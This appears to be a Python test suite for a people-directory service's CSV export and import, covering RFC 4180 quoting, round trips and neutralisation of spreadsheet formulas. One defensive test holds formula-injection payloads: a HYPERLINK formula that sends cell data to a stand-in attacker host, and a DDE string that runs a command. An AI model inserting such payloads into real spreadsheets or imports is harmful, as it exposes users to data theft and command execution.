"""CSV that spreadsheets can trust: RFC 4180 exactly, formulas neutralised, exact round trips."""

from __future__ import annotations

import csv
import io
import uuid

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service.imports.csvformat import read_rows, to_person, write_rows


def export(client) -> str:
    response = client.get("/v1/exports/people")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def reimport(client, body: str, query: str = "?dry_run=true") -> dict:
    response = client.post(
        f"/v1/imports/people{query}", data=body.encode(), content_type="text/csv"
    )
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def exported_rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def test_formula_cells_are_neutralised_on_export_and_restored_on_import(
    admin, make_person, member_of
):
    person = make_person(title="+1 Staff Engineer")
    member = member_of(person["id"])
    attack = {
        "location": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "languages": ["@SUM(1+1)*cmd|' /C calc'!A0", "en"],
        "perspectives": ["-2+3"],
        "skills": [{"skill": "=cmd", "level": 3}],
    }
    assert member.patch(f"/v1/people/{person['id']}", json=attack, etag="auto").status_code == 200
    admin.patch(
        f"/v1/people/{person['id']}", json={"team": "\tTabbed", "division": "'=quoted"}, etag="auto"
    )
    body = export(admin)
    row = exported_rows(body)[0]
    assert row["location"] == "'" + attack["location"]
    assert row["languages"].startswith("'@SUM(1+1)*cmd\\|' /C calc'!A0")
    assert row["perspectives"] == "'-2+3"
    assert row["skills"] == "'=cmd:3"
    assert row["title"] == "'+1 Staff Engineer"
    assert row["team"] == "'\tTabbed"
    # A cell that already began with quotes and a formula character gets one quote more.
    assert row["division"] == "''=quoted"
    for cell in row.values():
        assert not cell or cell[0] not in "=+-@\t\r"
    before = admin.get(f"/v1/people/{person['id']}").get_json()
    report = reimport(admin, body, "")
    assert (report["rows"], report["unchanged"], report["rejected"]) == (1, 1, 0)
    after = admin.get(f"/v1/people/{person['id']}").get_json()
    assert after == before


def test_quotes_commas_and_line_breaks_are_written_and_read_as_rfc_4180(admin, make_person):
    person = make_person(
        name='Doe, "Jane"', title="line\rbreak", team="two\r\nlines", languages=["x;y", "a|b"]
    )
    body = export(admin)
    assert body.endswith("\r\n") and body.count("\r\n") == 3  # header, row, the quoted CRLF
    assert '"Doe, ""Jane"""' in body and '"line\rbreak"' in body
    row = exported_rows(body)[0]
    assert (row["name"], row["title"], row["team"]) == (
        'Doe, "Jane"',
        "line\rbreak",
        "two\r\nlines",
    )
    assert row["languages"] == "x\\;y; a\\|b"
    report = reimport(admin, body)
    assert (report["unchanged"], report["rejected"]) == (1, 0), report
    assert admin.get(f"/v1/people/{person['id']}").get_json()["languages"] == ["x;y", "a|b"]


def test_an_excel_style_quoted_cell_keeps_its_columns(admin):
    body = (
        "Work Email,Full Name,Job Title,Function,Level\r\n"
        'pat@example.com,"O""Brien, Pat","Lead, ""Core""",engineering,4\r\n'
    )
    report = reimport(admin, body, "")
    assert report["created"] == 1, report
    pat = admin.get("/v1/people?q=pat@").get_json()[0]
    assert (pat["name"], pat["title"], pat["level"]) == ('O"Brien, Pat', 'Lead, "Core"', 4)


def test_a_stray_quote_is_a_422_naming_the_line(admin):
    body = (
        'email,name,function,level\r\nok@example.com,Ok,sales,3\r\nx@example.com,"A"B,sales,3\r\n'
    )
    response = admin.post("/v1/imports/people", data=body.encode(), content_type="text/csv")
    assert response.status_code == 422
    assert response.get_json()["detail"].startswith("Line 3:")


_TEXT = st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)))
_TRIMMED_ITEM = _TEXT.map(str.strip).filter(bool)


def test_the_writer_and_reader_agree_on_any_cell():
    @given(_TEXT)
    def roundtrip(text: str) -> None:
        written = "".join(write_rows([{"email": "a@example.com", "name": text}]))
        cells = next(read_rows(written.encode()).rows)[1]
        assert to_person(cells).get("name", None) == (text if text.strip() else None)

    roundtrip()


@st.composite
def _people(draw) -> list[dict]:
    count = draw(st.integers(1, 3))
    people = []
    for n in range(count):
        skills = draw(
            st.lists(_TRIMMED_ITEM.map(lambda s: s[:60]), max_size=3, unique_by=str.casefold)
        )
        people.append(
            {
                "email": f"p{n}.{uuid.uuid4().hex[:10]}@example.com",
                "external_id": draw(_TEXT.map(lambda s: s[:90])) + uuid.uuid4().hex[:10],
                "name": draw(_TEXT.filter(bool).map(lambda s: s[:200])),
                "title": draw(st.none() | _TEXT.filter(bool).map(lambda s: s[:200])),
                "function": "data",
                "level": draw(st.integers(1, 8)),
                "division": draw(st.none() | _TEXT.filter(bool).map(lambda s: s[:120])),
                "team": draw(st.none() | _TEXT.filter(bool).map(lambda s: s[:120])),
                "location": draw(st.none() | _TEXT.filter(bool).map(lambda s: s[:120])),
                "languages": draw(
                    st.lists(
                        _TRIMMED_ITEM.map(lambda s: s[:35].strip()).filter(bool),
                        max_size=3,
                        unique=True,
                    )
                ),
                "perspectives": draw(
                    st.lists(
                        _TRIMMED_ITEM.map(lambda s: s[:60].strip()).filter(bool),
                        max_size=3,
                        unique=True,
                    )
                ),
                "skills": [{"skill": s, "level": draw(st.integers(1, 5))} for s in skills],
                "mentoring": {
                    "open_to_mentor": draw(st.booleans()),
                    "mentor_capacity": draw(st.integers(0, 20)),
                },
                "manages_next": draw(st.booleans()),
            }
        )
    return people


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(people=_people())
def test_export_then_import_reports_every_row_unchanged(admin, people):
    created = []
    for person in people:
        body = {k: v for k, v in person.items() if k != "manages_next"}
        body = {k: v for k, v in body.items() if v is not None}
        response = admin.post("/v1/people", json=body)
        if response.status_code != 201:
            # Two generated skills may be one after normalisation (spaces, case): the API
            # refuses that, which is not what this test is about.
            assert response.status_code == 422, response.get_json()
            continue
        created.append((person, response.get_json()))
    for (person, made), (_next, boss) in zip(created, created[1:], strict=False):
        if person["manages_next"]:
            patched = admin.patch(
                f"/v1/people/{boss['id']}", json={"manager_id": made["id"]}, etag="auto"
            )
            assert patched.status_code == 200
    before = admin.get("/v1/people?page_size=100").get_json()
    body = export(admin)
    report = reimport(admin, body, "")
    assert report["rejections"] == []
    assert report["rows"] == report["unchanged"] == len(before), report
    assert admin.get("/v1/people?page_size=100").get_json() == before
